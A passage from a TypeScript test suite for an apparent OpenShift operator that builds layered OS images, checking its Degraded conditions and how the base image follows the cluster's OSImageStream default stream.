    w.pools.get(P)!.status = { ...w.pools.get(P)!.status, conditions: failed(renderedAt - 3000) };
    w.settle();
    expect(w.statuses.get(P)!.status!.phase).toBe('Ready');
    // A failure after the rendering (a later change MCC cannot render), or in the same second: Degraded.
    for (const at of [renderedAt + 5000, renderedAt]) {
      w.pools.get(P)!.status = { ...w.pools.get(P)!.status, conditions: failed(at) };
      w.settle();
      expect(degradedOf(w)).toMatchObject({ status: 'True', reason: 'RenderDegraded' });
    }
  });

  it('the rendered MachineConfig deleted by hand: Degraded RenderedConfigMissing, the image stays', () => {
    const w = ready();
    const image = w.handoffImage(P);
    const rendered = w.pools.get(P)!.spec!.configuration!.name!;
    w.machineConfigs.delete(rendered);
    w.settle();
    const st = w.statuses.get(P)!.status!;
    expect(degradedOf(w)).toMatchObject({ status: 'True', reason: 'RenderedConfigMissing' });
    expect(st.message).toContain(`rendered MachineConfig ${rendered} that pool worker names does not exist`);
    expect(w.handoffImage(P)).toBe(image);
  });

  it('a pool that sets spec.osImageStream.name: no hand-off MachineConfig (ours is deleted), a condition that says why and what to do', () => {
    const w = ready();
    expect(w.handoffImage(P)).toBeDefined();
    w.pools.get(P)!.spec = { ...w.pools.get(P)!.spec, osImageStream: { name: 'rhel-10' } };
    w.settle();
    expect(w.handoffImage(P)).toBeUndefined();
    expect(w.machineConfigsDeleted).toEqual(['99-worker-layered-image']);
    expect(degradedOf(w)).toMatchObject({ status: 'True', reason: 'OSImageStreamSet' });
    expect(degradedOf(w).message).toContain('sets spec.osImageStream.name "rhel-10"');
    expect(degradedOf(w).message).toContain(`oc patch mcp/worker --type json -p '[{"op":"remove","path":"/spec/osImageStream"}]'`);
    // A fresh pool with the stream set from the start never gets one.
    const w2 = new World({ debounceMs: 0 });
    w2.machineConfigs.set('rendered-worker-1', machineConfig('rendered-worker-1'));
    w2.pools.set(P, { ...pool(P, { rendered: 'rendered-worker-1' }), spec: { configuration: { name: 'rendered-worker-1' }, osImageStream: { name: 'rhel-9' } } });
    w2.settle();
    expect(w2.handoffImage(P)).toBeUndefined();
    expect(w2.statuses.get(P)!.status!.conditions!.find((c) => c.type === 'Degraded')!.reason).toBe('OSImageStreamSet');
  });
});

describe('plan: the base follows MCO\'s OS image stream where the cluster serves it', () => {
  it('the default stream\'s OS image is the base (over ControllerConfig\'s); a new default stream image rebuilds', () => {
    const w = new World({ debounceMs: 0 });
    const rhel9 = `${REG}/openshift/rhcos-9@${digestOf('rhel-9')}`;
    const rhel10 = `${REG}/openshift/rhcos-10@${digestOf('rhel-10')}`;
    for (const img of [rhel9, rhel10]) w.registry.set(img, img.slice(img.indexOf('@') + 1));
    w.osImageStream = {
      metadata: { name: 'cluster' },
      status: { defaultStream: 'rhel-9', availableStreams: [{ name: 'rhel-9', osImage: rhel9 }, { name: 'rhel-10', osImage: rhel10 }] },
    };
    firstSetup(w);
    w.settle();
    const coreosFrom = () => (w.streams.get('coreos')!.spec!.tags![0]!.from as { name: string }).name;
    expect(coreosFrom()).toBe(rhel9);
    expect(w.baseOSImage).not.toBe(rhel9);
    expect(w.statuses.get(P)!.status!.base).toBe(rhel9);
    const explained = w.statuses.get(P)!.status!.explain!.inputs.find((i) => i.name === 'base')!;
    expect(explained.source).toContain('from OSImageStream cluster (default stream "rhel-9")');
    // MCO moves the default stream: the base follows, one new content build.
    const builds = w.buildsCreated.length;
    w.osImageStream.status!.defaultStream = 'rhel-10';
    w.settle();
    expect(coreosFrom()).toBe(rhel10);
    expect(w.statuses.get(P)!.status!.base).toBe(rhel10);
    expect(w.buildsCreated).toHaveLength(builds + 1);
  });

  it('without an OSImageStream (an older cluster) the base is ControllerConfig\'s, as before', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.settle();
    expect((w.streams.get('coreos')!.spec!.tags![0]!.from as { name: string }).name).toBe(w.baseOSImage);
  });
});
